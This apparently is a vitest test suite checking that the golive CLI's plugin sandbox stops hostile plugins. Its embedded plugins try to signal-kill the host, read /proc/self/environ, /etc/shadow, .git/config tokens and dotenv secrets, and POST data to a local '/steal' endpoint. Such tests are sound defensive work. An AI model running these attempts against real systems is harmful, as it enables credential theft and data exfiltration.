// Issue 22's hostile plugin cases, each through the built CLI against a real repository: a plugin
// tries to signal golive (SIGUSR1 opens its inspector, SIGSTOP hangs the gate, SIGKILL drops the
// report), to read golive's environment or /etc/shadow at compile time, to widen its reach with a
// tsconfig, to read through a committed symlink to `/`, to read .git/config (the CI job's token) and
// the rendered --dotenv file, to POST to a real local server, and to return 1 GB. Each must fail to
// do harm, and what held before (no writes, workers, child processes, WASI, dlopen) still holds.
import { writeFileSync } from 'node:fs';
import { readFile, rm, symlink } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, cleanEnv } from '../e2e/cli.js';
import { tempDir, tempRepo, type TempDir, type TempRepo } from '../helpers/git.js';
import { fakeKey } from '../helpers/keys.js';

let repo: TempRepo;
let aux: TempDir;
const secret = fakeKey('sk', 'live');

const check = (id: string, body: string, extra = '') =>
  `{ id: '${id}', section: 'idempotency', kind: 'static', defaultSeverity: 'error', title: 'ok', failureTitle: 'bad', why: 'w', fix: 'f', requires: [], ${extra} run: ${body} }`;
const plugin = (checks: string[], top = '') => `${top}\nexport default { apiVersion: 1, namespace: 'evil', checks: [${checks.join(',')}] };\n`;

interface Run {
  exitCode: number;
  stdout: string;
  stderr: string;
  /** The golive process's peak resident set, in MB (its own report, written as it exits). */
  maxRssMb: number;
}

/** Runs the built CLI under `node <nodeArgs>`, with a live key in its environment. */
async function run(args: string[], opts: { nodeArgs?: string[]; env?: Record<string, string>; plugins?: unknown[] } = {}): Promise<Run> {
  if (opts.plugins) await repo.write({ 'golive.config.json': JSON.stringify({ plugins: opts.plugins }) });
  const rssFile = path.join(aux.dir, `rss-${Date.now()}-${Math.random()}.txt`);
  const r = await execa('node', [...(opts.nodeArgs ?? []), '--require', path.join(aux.dir, 'maxrss.cjs'), BIN, ...args], {
    cwd: repo.dir,
    env: cleanEnv({ MINTCASH_SECRET_KEY: secret, RSS_REPORT_FILE: rssFile, ...opts.env }),
    extendEnv: false,
    reject: false,
    timeout: 90_000,
    encoding: 'utf8',
  });
  const rss = await readFile(rssFile, 'utf8').catch(() => '0');
  return { exitCode: r.exitCode ?? -1, stdout: String(r.stdout), stderr: String(r.stderr), maxRssMb: Number(rss) / 1024 };
}

const findingsOf = (r: Run, id: string): string[] => {
  const c = (JSON.parse(r.stdout) as { checks: { id: string; findings: { message: string }[] }[] }).checks.find((x) => x.id === id);
  return c?.findings.map((f) => f.message) ?? [];
};
const checkOf = (r: Run, id: string) => (JSON.parse(r.stdout) as { checks: { id: string; status: string; summary: string }[] }).checks.find((x) => x.id === id)!;

beforeAll(async () => {
  repo = await tempRepo('golive-hostile-sandbox-');
  aux = await tempDir('golive-hostile-aux-');
  // The peak RSS as the process itself reports it on exit (kilobytes), for the 1 GB case.
  writeFileSync(path.join(aux.dir, 'maxrss.cjs'), "process.on('exit', () => require('node:fs').writeFileSync(process.env.RSS_REPORT_FILE, String(process.resourceUsage().maxRSS)));\n");
  await repo.write({ 'README.md': '# shop\n', 'package.json': JSON.stringify({ name: 'shop', private: true, type: 'module' }), 'src/app.js': 'export const app = 1;\n' });
  await repo.commit('shop');
}, 60_000);
afterAll(async () => {
  await repo.cleanup();
  await aux.cleanup();
});

describe('signals to golive and its inspector', () => {
  it('the detector works: SIGUSR1 to a Node process started with --inspect-port=0 opens its inspector', async () => {
    const child = execa('node', ['--inspect-port=0', '-e', 'setTimeout(() => {}, 5000)'], { reject: false, timeout: 20_000 });
    await new Promise((r) => setTimeout(r, 300));
    child.kill('SIGUSR1');
    let stderr = '';
    child.stderr!.on('data', (d: Buffer) => {
      stderr += d.toString();
      if (/Debugger listening/.test(stderr)) child.kill('SIGKILL');
    });
    await child;
    expect(stderr).toMatch(/Debugger listening on ws:\/\/127\.0\.0\.1:\d+/);
  });

  it('a plugin cannot send SIGUSR1, SIGSTOP or SIGKILL to golive: no inspector opens, the run completes, the report is written', async () => {
    const body = `async () => {
      const out = [];
      const attempt = async (name, f) => { try { await f(); out.push(name + ':sent'); } catch (e) { out.push(name + ':' + (e && e.name)); } };
      await attempt('SIGUSR1', () => process.kill(process.ppid, 'SIGUSR1'));
      await attempt('SIGSTOP', () => globalThis.process.kill(globalThis.process.ppid, 'SIGSTOP'));
      await attempt('SIGKILL', () => Function('return process')().kill(Function('return process')().ppid, 'SIGKILL'));
      await attempt('constructor', () => ({}).constructor.constructor('return process')().kill(1, 'SIGKILL'));
      const spec = ['node', 'process'].join(':');
      await attempt('import', async () => (await import(spec)).kill(1, 'SIGKILL'));
      await attempt('inspector', async () => (await import(['node', 'inspector'].join(':'))).open(0));
      return { findings: out.map((message) => ({ messageId: 'tried', message })) };
    }`;
    await repo.write({ 'evil/signals.mjs': plugin([check('signals', body)]) });
    const r = await run(['check', '.', '--offline', '--format', 'json', '--only', 'evil'], { nodeArgs: ['--inspect-port=0'], plugins: ['./evil/signals.mjs'] });
    expect(r.stderr).not.toMatch(/Debugger listening/);
    expect(r.exitCode).toBe(1);
    const tried = findingsOf(r, 'evil/signals');
    expect(tried).toHaveLength(6);
    for (const t of tried) expect(t).not.toMatch(/:sent$/);
    expect(tried).toEqual(expect.arrayContaining(['SIGUSR1:ReferenceError', 'SIGSTOP:TypeError', 'SIGKILL:ReferenceError', 'constructor:ReferenceError']));
  });
});

describe('no compile-time reach', () => {
  it('refuses /proc/self/environ and /etc/shadow as text, absolute and `..` escapes, built-ins and golive internals, one line each naming the import', async () => {
    const up = '../'.repeat(12);
    await repo.write({
      'evil/attr-env.mjs': `import env from '/proc/self/environ' with { type: 'text' };\n${plugin([check('a', '() => ({ summary: env })')])}`,
      'evil/attr-shadow.mjs': `import shadow from '/etc/shadow' with { type: 'text' };\n${plugin([check('a', '() => ({ summary: shadow })')])}`,
      'evil/plain-env.cjs': `const env = require('/proc/self/environ');\nmodule.exports = { apiVersion: 1, namespace: 'evil', checks: [${check('a', '() => ({ summary: String(env) })')}] };\n`,
      'evil/dotdot.mjs': `import env from '${up}proc/self/environ';\n${plugin([check('a', '() => ({ summary: env })')])}`,
      'evil/outside.mjs': `import pkg from '${up}${BIN.slice(1).replace(/bin\/golive\.js$/, 'package.json')}';\n${plugin([check('a', '() => ({ summary: pkg.name })')])}`,
      'evil/nodex.mjs': `${plugin([check('a', "async () => ({ summary: String(await import('node:x')) })")])}`,
      'evil/internal.mjs': `import { runCheck } from 'mintcash-golive/testing';\n${plugin([check('a', '() => ({ summary: typeof runCheck })')])}`,
    });
    const files = ['attr-env.mjs', 'attr-shadow.mjs', 'plain-env.cjs', 'dotdot.mjs', 'outside.mjs', 'nodex.mjs', 'internal.mjs'];
    const r = await run(['check', '.', '--offline'], { plugins: files.map((f) => `./evil/${f}`) });
    expect(r.exitCode).toBe(2);
    const lines = r.stderr.split('\n').filter((l) => l.startsWith('  - plugin'));
    expect(lines).toHaveLength(files.length);
    expect(r.stderr).toMatch(/attr-env\.mjs:1:\d+: import "\/proc\/self\/environ" with \{ type: "text" \} is refused/);
    expect(r.stderr).toMatch(/attr-shadow\.mjs:1:\d+: import "\/etc\/shadow" with \{ type: "text" \} is refused/);
    expect(r.stderr).toMatch(/plain-env\.cjs:1:\d+: require\("\/proc\/self\/environ"\) is a file without an extension/);
    expect(r.stderr).toMatch(/dotdot\.mjs:1:\d+: import "(\.\.\/)+proc\/self\/environ" is a file without an extension/);
    expect(r.stderr).toMatch(/outside\.mjs:1:\d+: import ".*package\.json" resolves outside the plugin's package/);
    expect(r.stderr).toMatch(/nodex\.mjs:\d+:\d+: import "node:x" is a Node built-in/);
    expect(r.stderr).toMatch(/internal\.mjs:1:\d+: import "mintcash-golive\/testing" is not available to a plugin/);
    // golive's environment (and the live key in it) never reaches the output, masked or not.
    expect(r.stdout + r.stderr).not.toMatch(/sk_live_|MINTCASH_SECRET_KEY=|PATH=/);
  });

  it('a tsconfig cannot widen the reach: `paths` to /etc and `extends` of /proc/self/environ are never read', async () => {
    await repo.write({
      'evil/ts/package.json': JSON.stringify({ name: 'evil', private: true, type: 'module' }),
      'evil/ts/tsconfig.json': JSON.stringify({ extends: '/proc/self/environ', compilerOptions: { baseUrl: '.', paths: { 'secret/*': ['/etc/*', '/proc/self/*'] } } }),
      'evil/ts/plugin.ts': `import host from 'secret/hostname';\nimport env from 'secret/environ';\n${plugin([check('a', '(): { summary: string } => ({ summary: String(host) + String(env) })')])}`,
    });
    const r = await run(['check', '.', '--offline'], { plugins: ['./evil/ts/plugin.ts'] });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/plugin\.ts:1:\d+: import "secret\/hostname" cannot be found inside the plugin's package or its dependencies \(tsconfig "paths" are not used\)/);
    // The old failure echoed the first token of the extended file ("Unexpected … in JSON").
    expect(r.stderr).not.toMatch(/Unexpected|JSON|environ"? *[:=]|sk_live_/);
  });
});

describe('reads through the repository', () => {
  it('a committed symlink to / serves nothing outside the repository, at run time or at compile time', async () => {
    await symlink('/', path.join(repo.dir, 'r'));
    await repo.write({
      'evil/symlink.mjs': plugin([
        check('reads', '({ evidence }) => ({ findings: [...evidence.reads.files.map((f) => ({ messageId: "served", message: f.path + "=" + f.text.slice(0, 40) }))] })', "reads: ['**'],"),
      ]),
      'evil/symlink-compile.mjs': `import os from '../r/etc/os-release';\n${plugin([check('a', '() => ({ summary: os })')])}`,
    });
    await repo.commit('a symlink to the root');
    expect(await repo.git('ls-files', '-s', 'r')).toMatch(/^120000 /);
    const r = await run(['check', '.', '--offline', '--format', 'json', '--only', 'evil'], { plugins: [{ use: './evil/symlink.mjs', grants: { reads: ['**'] } }] });
    const served = findingsOf(r, 'evil/reads').map((m) => m.split('=')[0] ?? m);
    expect(served).toEqual(expect.arrayContaining(['README.md', 'src/app.js']));
    expect(served.filter((p: string) => p.startsWith('r/') || p === 'r')).toEqual([]);
    expect(r.stdout).not.toMatch(/root:x:0|sk_live_/);
    const c = await run(['check', '.', '--offline'], { plugins: ['./evil/symlink-compile.mjs'] });
    expect(c.exitCode).toBe(2);
    expect(c.stderr).toMatch(/symlink-compile\.mjs:1:\d+: import "\.\.\/r\/etc\/os-release" is a file without an extension/);
    await repo.git('rm', '-q', '--cached', 'r');
    await rm(path.join(repo.dir, 'r'));
    await repo.commit('drop the symlink');
  });

  it('.git/config (the CI job token) and the rendered --dotenv file are never served, even with everything granted', async () => {
    const token = Buffer.from(`x-access-token:ghs_${'T'.repeat(36)}`).toString('base64');
    await repo.git('config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${token}`);
    await repo.write({
      '.env.production': `MINTCASH_SECRET_KEY=${secret}\n`,
      'evil/git.mjs': plugin([
        check('reads', '({ evidence }) => ({ findings: [...evidence.reads.files.map((f) => ({ messageId: "served", message: f.path + "=" + f.text })), ...evidence.reads.skipped.map((s) => ({ messageId: "skipped", message: s.path + " " + s.reason }))] })', "reads: ['**', '.git/**', '.git/config', '.env.production'],"),
      ]),
      'evil/git-compile.cjs': `const cfg = require('../.git/config');\nmodule.exports = { apiVersion: 1, namespace: 'evil', checks: [${check('a', '() => ({ summary: String(cfg) })')}] };\n`,
    });
    const r = await run(['check', '.', '--offline', '--format', 'json', '--only', 'evil', '--dotenv', '.env.production'], { plugins: [{ use: './evil/git.mjs', grants: { reads: ['**', '.git/**'] } }] });
    const said = findingsOf(r, 'evil/reads');
    expect(said.some((m) => m.startsWith('README.md='))).toBe(true);
    expect(said.filter((m) => /^(\.git\/|\.env\.production=)/.test(m))).toEqual([]);
    expect(said).toContain('.env.production is the --dotenv file (never served)');
    expect(r.stdout + r.stderr).not.toContain(token);
    expect(r.stdout + r.stderr).not.toContain(secret);
    const c = await run(['check', '.', '--offline', '--dotenv', '.env.production'], { plugins: ['./evil/git-compile.cjs'] });
    expect(c.exitCode).toBe(2);
    expect(c.stderr).toMatch(/git-compile\.cjs:1:\d+: require\("\.\.\/\.git\/config"\) is a file without an extension/);
    expect(c.stdout + c.stderr).not.toContain(token);
  });
});

describe('no network', () => {
  let server: http.Server;
  let hits: string[];
  let port: number;
  beforeAll(async () => {
    hits = [];
    server = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.end('ok');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));

  it('a plugin cannot POST to a real local server: no fetch, no sockets, no http module, and golive fetches only granted HTTPS', async () => {
    const url = `http://127.0.0.1:${port}/steal`;
    const body = `async () => {
      const out = [];
      const attempt = async (name, f) => { try { await f(); out.push(name + ':sent'); } catch (e) { out.push(name + ':' + (e && e.name)); } };
      await attempt('fetch', () => fetch('${url}', { method: 'POST', body: 'loot' }));
      await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('POST', '${url}'); x.send('loot'); });
      await attempt('websocket', () => new WebSocket('ws://127.0.0.1:${port}/'));
      await attempt('http', async () => (await import(['node', 'http'].join(':'))).request('${url}', { method: 'POST' }).end('loot'));
      return { findings: out.map((message) => ({ messageId: 'tried', message })) };
    }`;
    await repo.write({
      'evil/net.mjs': plugin([
        check('post', body),
        check('plain-http', '({ evidence }) => ({ summary: String(evidence.fetches) })', `kind: 'network', fetches: ['${url}?k=1'],`).replace("kind: 'static', ", ''),
        check('ungranted', '({ evidence }) => ({ summary: String(evidence.fetches) })', `kind: 'network', fetches: ['https://127.0.0.1:${port}/steal'],`).replace("kind: 'static', ", ''),
      ]),
    });
    const r = await run(['check', '.', '--format', 'json', '--only', 'evil'], { plugins: [{ use: './evil/net.mjs', grants: { fetches: ['https://status.example.invalid/'] } }] });
    expect(findingsOf(r, 'evil/post').sort()).toEqual(['fetch:ReferenceError', 'http:ReferenceError', 'websocket:ReferenceError', 'xhr:ReferenceError']);
    expect(checkOf(r, 'evil/plain-http')).toMatchObject({ status: 'error' });
    expect(checkOf(r, 'evil/plain-http').summary).toMatch(/is not HTTPS/);
    expect(checkOf(r, 'evil/ungranted')).toMatchObject({ status: 'pending' });
    expect(checkOf(r, 'evil/ungranted').summary).toMatch(/Needs a grant: .*"fetches":\["https:\/\/127\.0\.0\.1:\d+\/steal"\]/);
    expect(hits).toEqual([]);
  });
});

describe('bounded output', () => {
  it('1 GB of output is that check\'s error, golive\'s RSS stays bounded, and the other checks still run', async () => {
    await repo.write({
      'evil/big.mjs': plugin([
        check('gigabyte', "() => ({ findings: Array.from({ length: 1024 }, (_, i) => ({ messageId: 'x', message: String(i).padEnd(2 ** 20, 'x') })) })"),
        check('many', "() => ({ findings: Array.from({ length: 5000 }, (_, i) => ({ messageId: 'x', message: 'n' + i })) })"),
        check('long', "() => ({ findings: [{ messageId: 'x', message: 'x'.repeat(20000) }] })"),
        check('huge-text', "() => ({ summary: 'y'.repeat(8 * 2 ** 20) })"),
        check('fine', "() => ({ summary: 'still here' })"),
      ]),
    });
    const r = await run(['check', '.', '--offline', '--format', 'json', '--only', 'evil'], { plugins: ['./evil/big.mjs'] });
    expect(r.exitCode).toBe(1);
    expect(checkOf(r, 'evil/gigabyte')).toMatchObject({ status: 'error' });
    expect(checkOf(r, 'evil/gigabyte').summary).toMatch(/used more than the 256 MB of memory a plugin gets/);
    expect(checkOf(r, 'evil/many').summary).toMatch(/returned 5000 findings; the limit is 1000/);
    expect(checkOf(r, 'evil/long').summary).toMatch(/findings\[0\]\.message is 20000 characters; the limit is 4000/);
    expect(checkOf(r, 'evil/huge-text').summary).toMatch(/the check's result is \d+ characters; the limit is 4194304/);
    expect(checkOf(r, 'evil/fine')).toMatchObject({ status: 'pass', summary: 'still here' });
    // Before the sandbox, 1 GB over IPC took golive to 2.9 GB. Now the plugin's heap stops at 256 MB
    // inside QuickJS, and golive itself (main thread, sandbox thread, its WebAssembly memory) stays
    // under this bound, measured by the process itself.
    expect(r.maxRssMb).toBeGreaterThan(0);
    expect(r.maxRssMb).toBeLessThan(700);
  }, 120_000);
});

describe('what held before still holds', () => {
  it.each([
    ['fs writes', "import { writeFileSync } from 'node:fs';", 'node:fs'],
    ['process.report', "import process from 'node:process';", 'node:process'],
    ['the inspector', "import inspector from 'node:inspector';", 'node:inspector'],
    ['WASI', "import { WASI } from 'node:wasi';", 'node:wasi'],
    ['dlopen', "import { createRequire } from 'module';", 'module'],
    ['workers', "import { Worker } from 'worker_threads';", 'worker_threads'],
    ['child processes', "import { execSync } from 'node:child_process';", 'node:child_process'],
  ])('%s: the import is refused at compile time, naming it', async (_what, imp, name) => {
    await repo.write({ 'evil/held.mjs': `${imp}\n${plugin([check('a', '() => ({})')])}` });
    const r = await run(['check', '.', '--offline'], { plugins: ['./evil/held.mjs'] });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`held.mjs:1:`);
    expect(r.stderr).toContain(`import "${name}" is a Node built-in`);
  });

  it('a result with __proto__ is refused as an unknown field', async () => {
    await repo.write({ 'evil/proto.mjs': plugin([check('proto', `() => JSON.parse('{"__proto__": {"status": "pass"}, "findings": []}')`)]) });
    const r = await run(['check', '.', '--offline', '--format', 'json', '--only', 'evil'], { plugins: ['./evil/proto.mjs'] });
    expect(checkOf(r, 'evil/proto')).toMatchObject({ status: 'error' });
    expect(checkOf(r, 'evil/proto').summary).toMatch(/__proto__ is not a known field/);
  });
});
